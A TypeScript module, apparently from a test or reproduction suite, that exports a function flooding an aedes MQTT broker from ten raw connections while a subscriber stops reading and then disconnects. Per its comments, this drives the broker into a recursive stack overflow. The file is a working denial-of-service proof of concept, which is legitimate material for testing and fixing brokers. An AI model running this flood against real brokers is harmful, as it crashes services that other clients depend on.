import { ask, closed, connectPacket, deafSubscriber, publishPacket, rawConnection } from './raw-mqtt.ts';

const PUBLISHERS = 10;
/** The bytes that a broker reads at once; with messages this small, about 3,000 of them. */
const BYTES = 64 * 1024;

/**
 * A subscriber stops reading while messages for it pile up, then it disconnects. The messages wait in aedes' own queue, and
 * messages without a subscriber are then processed by recursion: the stack overflows (field case A5).
 */
export async function overflow(url: string): Promise<void> {
  const deaf = await deafSubscriber(url);
  const message = publishPacket('flood', 'x'.repeat(10));
  const flood = Buffer.concat(Array.from({ length: Math.floor(BYTES / message.length) }, () => message));
  const publishers = await Promise.all(
    Array.from({ length: PUBLISHERS }, async (_, index) => {
      const socket = await rawConnection(url);
      await ask(socket, connectPacket(`publisher-${index}`));
      return socket;
    }),
  );
  // Twice: after the first flood the broker continues only if no other client delays it.
  for (let times = 0; times < 2; times += 1)
    await Promise.all(publishers.map((socket) => new Promise((sent) => socket.write(flood, sent))));
  // The broker reads the messages of the others before it answers a later request.
  const witness = await rawConnection(url);
  await ask(witness, connectPacket('witness'));
  deaf.destroy();
  await closed(deaf);
}
